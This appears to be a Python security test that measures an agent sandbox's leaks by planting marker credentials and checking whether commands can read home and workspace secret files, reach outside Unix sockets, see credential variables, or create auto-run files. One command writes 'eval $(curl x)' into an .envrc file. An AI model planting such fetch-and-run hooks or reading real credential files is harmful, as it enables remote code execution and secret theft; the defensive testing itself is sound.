"""The sandbox's doors as bench/security_report.py counts them: credential locations a command could read,
Unix sockets that answered it, credential variables that reached it, auto-run files it could create. Each
probe plants its own markers and looks at what happened (the output, the listeners, the disk)."""

from __future__ import annotations

import contextlib
import os
import socket
import tempfile
import uuid
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.security.planted import CREDENTIAL_VARIABLES, HOME_SECRET_FILES, WORKSPACE_SECRET_FILES

Run = Callable[[Path, str, bool], Awaitable[str]]
"""Runs a shell command line in a workspace (network allowed or not) and returns its output."""

AUTO_RUN = (".git", ".hg", ".envrc", ".vscode/tasks.json")
CREATE_AUTO_RUN = (
    "git init -q; mkdir .hg; echo 'eval $(curl x)' > .envrc; mkdir -p .vscode; echo '{}' > .vscode/tasks.json"
)


@dataclass(frozen=True)
class Door:
    name: str
    unit: str
    tried: int
    through: list[str]
    """What got through (a file read, a socket that answered, a variable, a file created)."""


def _marker() -> str:
    return f"door-{uuid.uuid4().hex[:12]}"


async def home_files(home: Path, ws: Path, run: Run) -> Door:
    markers = {}
    for name in HOME_SECRET_FILES:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        markers[name] = _marker()
        (home / name).write_text(f"[auth]\n\ttoken = {markers[name]}\n")
    out = await run(ws, "cat " + " ".join(f"~/{name}" for name in HOME_SECRET_FILES), False)
    seen = [name for name, marker in markers.items() if marker in out]
    return Door("credential locations in ~", "readable", len(markers), seen)


async def workspace_files(home: Path, ws: Path, run: Run) -> Door:
    markers = {}
    for name in WORKSPACE_SECRET_FILES:
        (ws / name).parent.mkdir(parents=True, exist_ok=True)
        markers[name] = _marker()
        (ws / name).write_text(f"API_KEY={markers[name]}\n")
    out = await run(ws, "cat " + " ".join(WORKSPACE_SECRET_FILES), False)
    try:
        return Door("secrets files in the workspace", "readable", len(markers),
                    [n for n, m in markers.items() if m in out])  # fmt: skip
    finally:
        for name in WORKSPACE_SECRET_FILES:
            (ws / name).unlink()


@contextlib.contextmanager
def _listening(address: str) -> Iterator[socket.socket]:
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(address)
        server.listen(4)
        server.setblocking(False)
        yield server
    finally:
        server.close()
        if not address.startswith("\0"):
            with contextlib.suppress(OSError):
                Path(address).unlink()


def _answered(server: socket.socket) -> bool:
    try:
        conn, _ = server.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


CONNECT = (
    "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{address}')\" 2>/dev/null"
)


async def sockets(home: Path, ws: Path, run: Run) -> Door:
    """A socket in the home folder and one in /run (network cut, then allowed), and an abstract one with the
    network allowed (cut, abstract sockets belong to another network namespace)."""
    tried: list[tuple[str, str, bool]] = [(str(home / ".agent.sock"), "~/.agent.sock", network)
                                          for network in (False, True)]  # fmt: skip
    if os.access("/run", os.W_OK):
        run_socket = f"/run/da-door-{uuid.uuid4().hex[:8]}.sock"
        tried += [(run_socket, "/run/*.sock", network) for network in (False, True)]
    tried.append((f"\0da-door-{uuid.uuid4().hex}", "abstract (the session's D-Bus, X)", True))
    through = []
    for address, label, network in tried:
        with _listening(address) as server:
            shown = address.replace("\0", "\\0")
            await run(ws, CONNECT.format(address=shown), network)
            if _answered(server):
                through.append(f"{label}, network {'allowed' if network else 'cut'}")
    return Door("Unix sockets outside", "reachable", len(tried), through)


async def variables(home: Path, ws: Path, run: Run) -> Door:
    markers = {name: _marker() for name in CREDENTIAL_VARIABLES}
    saved = {name: os.environ.get(name) for name in markers}
    os.environ.update({name: CREDENTIAL_VARIABLES[name].format(secret=m) for name, m in markers.items()})
    try:
        out = await run(ws, "env", False)
    finally:
        for name, value in saved.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value
    return Door("credential variables", "passed", len(markers), [n for n, m in markers.items() if m in out])


async def auto_run_files(home: Path, ws: Path, run: Run) -> Door:
    fresh = Path(tempfile.mkdtemp(prefix="no-repository-", dir=home))
    await run(fresh, CREATE_AUTO_RUN, False)
    return Door("auto-run files (no repository)", "created", len(AUTO_RUN),
                [name for name in AUTO_RUN if (fresh / name).exists()])  # fmt: skip


DOORS = (home_files, workspace_files, sockets, variables, auto_run_files)


async def probe_doors(home: Path, ws: Path, run: Run) -> list[Door]:
    return [await door(home, ws, run) for door in DOORS]
